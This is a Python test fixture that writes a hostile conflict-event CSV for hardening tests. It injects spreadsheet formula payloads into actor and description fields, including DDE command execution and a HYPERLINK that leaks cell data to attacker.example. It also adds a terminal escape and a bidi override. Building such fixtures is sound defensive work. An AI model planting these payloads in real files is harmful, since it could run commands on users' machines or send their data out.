"""Hostile input shared by the hardening tests (no tests here): a UCDP GED file in the producer's layout, made of
real demo rows with fresh ids, whose text columns carry what an attacker would put in a source file."""

from __future__ import annotations

from pathlib import Path

import pandas as pd

DEMO = Path(__file__).resolve().parents[1] / "src" / "signalfire" / "demo"

FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3*cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "'=quoted",
            '=HYPERLINK("http://attacker.example/?leak="&A1,"click")']
ESCAPE = "\x1b[31mRED\x1b[0m [bold]markup[/bold] \u202eevil\u202c end"


def hostile_ged(path: Path) -> Path:
    """Ten demo GED rows: seven carry a spreadsheet formula (or an apostrophe) in side_a (actor1) and where_description
    (description), one a terminal escape and Rich markup in where_coordinates (place)."""
    rows = pd.read_csv(DEMO / "ged_v23_1_sample1000.csv.gz", dtype=str, keep_default_na=False).head(10).copy()
    rows["id"] = [str(990000101 + i) for i in range(len(rows))]
    for i, formula in enumerate(FORMULAS):
        rows.loc[rows.index[i], "side_a"] = formula
        rows.loc[rows.index[i], "where_description"] = formula
    rows.loc[rows.index[7], "where_coordinates"] = ESCAPE
    rows.to_csv(path, index=False)
    return path
